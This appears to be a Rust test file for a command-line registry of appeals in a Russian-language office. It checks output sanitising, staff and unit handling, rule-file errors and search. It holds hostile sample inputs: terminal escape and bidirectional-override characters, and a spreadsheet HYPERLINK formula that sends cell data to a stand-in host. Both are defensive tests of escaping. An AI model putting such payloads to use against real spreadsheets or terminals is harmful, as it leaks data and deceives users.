//! What is printed: hostile text, formulas, units, staff, the office, demo data.

use serde_json::json;

use super::Desk;

const HOSTILE: &str = "Зло\u{1b}[2J\u{202e}\u{200b}\u{7}конец";

#[test]
fn hostile_text_is_shown_as_marks_in_lists_cards_history_and_errors() {
    let desk = Desk::with_office();
    let object = json!({ "channel": "phone", "kind": "enquiry", "client": { "surname": HOSTILE, "phone": "5-55-55" }, "gist": HOSTILE,
        "text": HOSTILE });
    desk.register_json(&object);
    desk.done(&["withdraw", "1", "--reason", HOSTILE]);
    let mut printed: Vec<_> = [
        &["list", "--queue", "all"][..],
        &["list", "--queue", "all", "--format", "csv"],
        &["list", "--queue", "all", "--format", "json"],
        &["show", "1"],
        &["show", "1", "--format", "json"],
        &["history", "1"],
        &["find", "зло"],
    ]
    .iter()
    .map(|args| desk.done(args))
    .collect();
    printed.push(desk.run(&["show", HOSTILE]).err);
    printed.push(desk.run(&["list", "--queue", HOSTILE]).err);
    printed.push(desk.run(&[HOSTILE]).err);
    for text in printed {
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{200b}', '\u{7}']), "{text:?}");
        assert!(text.contains("Зло") || text.contains("зло"), "nothing was lost either: {text:?}");
    }
    let json = desk.json(&["list", "--queue", "all", "--format", "json"]);
    assert_eq!(json[0]["gist"], HOSTILE, "JSON gives back what was written");
}

#[test]
fn a_spreadsheet_never_runs_what_a_client_wrote() {
    let desk = Desk::with_office();
    desk.register_json(&json!({ "channel": "phone", "kind": "enquiry", "client": { "anonymous": true },
        "gist": "=HYPERLINK(\"http://x?\"&A1)" }));
    let csv = desk.done(&["list", "--format", "csv"]);
    let lines: Vec<_> = csv.split("\r\n").collect();
    assert!(lines[0].starts_with("due,inner_due,overdue_days,number,"), "{csv}");
    assert!(lines[1].contains(",\"'=HYPERLINK(\"\"http://x?\"\"&A1)\","), "{csv}");
    assert!(lines[1].starts_with("2026-12-08,,-15,"), "a figure stays a figure: {csv}");
}

#[test]
fn units_and_staff_are_kept_by_shell() {
    let desk = Desk::with_office();
    desk.done(&["unit", "add", "ТО-2", "--title", "Территориальный отдел № 2", "--sort", "territorial"]);
    assert!(desk.refused(&["unit", "add", "ТО-2"]).contains("занят"));
    desk.done(&[
        "staff",
        "add",
        "--login",
        "petrov",
        "--person",
        "Петров Иван",
        "--unit",
        "территориальный отдел № 2",
        "--role",
        "executor,head",
        "--role",
        "clerk",
        "--sign-from",
        "01.12.2026",
        "--os-user",
        "ivan",
    ]);
    let staff = desk.json(&["staff", "list", "--format", "json"]);
    let petrov = staff.as_array().unwrap().iter().find(|person| person["login"] == "petrov").unwrap();
    assert_eq!(petrov["unit"], "ТО-2", "a unit is found by its name too");
    assert_eq!(petrov["roles"], json!(["clerk", "executor", "head"]));
    assert_eq!(petrov["signing"]["from"], "2026-12-01");
    assert!(desk.refused(&["unit", "retire", "ТО-2"]).contains("1 сотрудник"));
    desk.done(&["staff", "retire", "petrov"]);
    desk.done(&["unit", "retire", "ТО-2"]);
    assert!(desk.refused(&["staff", "retire", "ivanova"]).contains("последний администратор"));
    let units = desk.done(&["unit", "list"]);
    assert!(units.contains("Территориальный отдел № 2") && units.contains("2026-11-23"), "{units}");
}

#[test]
fn the_office_says_of_itself_what_letters_print() {
    let desk = Desk::with_office();
    desk.done(&[
        "office",
        "change",
        "--address",
        "г. Энск, ул. Мира, 1",
        "--letterhead",
        "ИНН 7701234567",
        "--letterhead",
        "ОГРН 1027700000000",
        "--appeal-numbers",
        "{serial}-{office}-{yyyy}",
    ]);
    let office = desk.json(&["office", "show", "--format", "json"]);
    assert_eq!(office["letterhead"], json!(["ИНН 7701234567", "ОГРН 1027700000000"]));
    let said =
        desk.done(&["register", "--channel", "phone", "--kind", "enquiry", "--anonymous", "--gist", "x"]);
    assert!(said.contains("№ 1-ЭН1-2026"), "{said}");
    let ended = desk.run(&["office", "change", "--appeal-numbers", "{serial}"]);
    assert_eq!(ended.code, Some(2));
    assert!(ended.err.contains("код офиса"), "{}", ended.err);
}

#[test]
fn rules_are_loaded_from_files_and_a_broken_one_is_named_with_its_line() {
    let desk = Desk::with_office();
    let norms = std::fs::read_to_string("assets/norms.toml").unwrap();
    let rolled = desk.file("norms.toml", &norms.replace("roll = \"stays\"", "roll = \"next_working\""));
    desk.done(&["load", "norms", &rolled]);
    let answer = desk.json(&["due", "--channel", "letter", "--on", "2026-11-20", "--format", "json"]);
    assert_eq!(answer["due"], "2026-12-07", "a Saturday moves on");
    let broken = desk.file("bad.toml", "[[norm]]\nid = \"x\"\nfoo = 1\n");
    let reason = desk.refused(&["load", "norms", &broken]);
    assert!(
        reason.contains("bad.toml") && reason.contains("строка 3") && reason.contains("«foo»"),
        "{reason}"
    );
    let misspelt = desk.file("bad.toml", &norms.replace("roll = ", "rol = "));
    let reason = desk.refused(&["load", "norms", &misspelt]);
    assert!(reason.contains("«rol»") && reason.contains("Ближайшее — «roll»"), "{reason}");
    desk.done(&["load", "calendar", "assets/calendar/2027.toml"]);
    desk.done(&["load", "topics", "assets/topics.toml"]);
}

#[test]
fn demo_fills_an_empty_register_and_no_other() {
    let desk = Desk::bare();
    let said = desk.done(&["demo", "--appeals", "60", "--seed", "7"]);
    assert!(said.contains("60 обращений"), "{said}");
    assert_eq!(desk.json(&["list", "--queue", "all", "--format", "json"]).as_array().unwrap().len(), 60);
    desk.done(&["check", "--deep"]);
    assert!(desk.refused(&["demo"]).contains("уже есть"));
}

#[test]
fn finding_is_blind_to_case_and_yo_and_says_when_there_is_nothing() {
    let desk = Desk::with_office();
    desk.register_json(&json!({ "channel": "phone", "kind": "enquiry", "gist": "x",
        "client": { "surname": "Ёлкина", "phone": "+7 900 123-45-67", "account": "100200300" } }));
    for words in [&["елкина"][..], &["ЁЛК"], &["1"], &["100200"], &["123-45-67"]] {
        let found = desk.done(&[&["find"], words].concat());
        assert!(found.contains("ЭН1-000001/26"), "{words:?}");
    }
    let ended = desk.run(&["find", "никого", "--format", "json"]);
    assert_eq!((ended.code, ended.out.trim()), (Some(1), "[]"));
    assert!(desk.refused(&["show", "77"]).contains("№ 77"));
}

#[test]
fn an_office_that_moves_over_in_mid_year_goes_on_from_its_paper_journal_once() {
    let desk = Desk::with_office();
    desk.done(&["office", "series", "appeal", "--first", "413"]);
    let call = ["register", "--channel", "phone", "--kind", "enquiry", "--anonymous", "--gist", "x"];
    assert!(desk.done(&call).contains("ЭН1-000413/26"));
    assert!(desk.refused(&["office", "series", "appeal", "--first", "500"]).contains("414"));
    desk.done(&["check", "--deep"]);
}
